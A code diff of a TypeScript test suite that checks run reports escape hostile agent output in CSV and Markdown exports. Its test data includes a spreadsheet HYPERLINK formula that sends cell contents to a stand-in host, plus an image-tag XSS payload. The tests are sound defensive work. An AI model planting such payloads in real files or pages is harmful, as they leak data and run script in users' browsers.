@@ -1,10 +1,9 @@
 import { afterEach, describe, expect, it } from "vitest";
 import { escapeCsvCell, escapeMarkdown } from "@/lib/runs/report-escape";
-import { buildRunReport } from "@/lib/runs/report";
 import { Executor, errorOutcome, type CaseRunner } from "@/lib/runs/executor";
 import { getRun, startRun } from "@/lib/runs/service";
 import { makeWorkspace } from "../helpers/factories";
-import { makeSuiteWithCases, waitFor } from "./helpers";
+import { makeSuiteWithCases, reportText, waitFor } from "./helpers";
 
 const HYPERLINK = '=HYPERLINK("http://x.example/?d="&A1,"click")';
 const hostile = [
@@ -97,8 +96,7 @@ describe("run reports with hostile agent text", () => {
       (r) => r.status === "completed",
     );
 
-    const csv = await buildRunReport(ctx, run.id, "csv");
-    const rows = parseCsv(csv.body);
+    const rows = parseCsv(await reportText(ctx, run.id, "csv"));
     expect(rows).toHaveLength(hostile.length);
     for (const row of rows) {
       for (const [column, cell] of Object.entries(row)) {
@@ -108,7 +106,7 @@ describe("run reports with hostile agent text", () => {
     }
     expect(rows.map((r) => r.actual_response)).toContain(`'${HYPERLINK}`);
 
-    const markdown = (await buildRunReport(ctx, run.id, "markdown")).body;
+    const markdown = await reportText(ctx, run.id, "markdown");
     expect(markdown).not.toContain("<img");
     expect(markdown).toContain("&lt;img src=x onerror=alert(1)&gt;");
     expect(markdown).not.toMatch(/[^\\]`/);
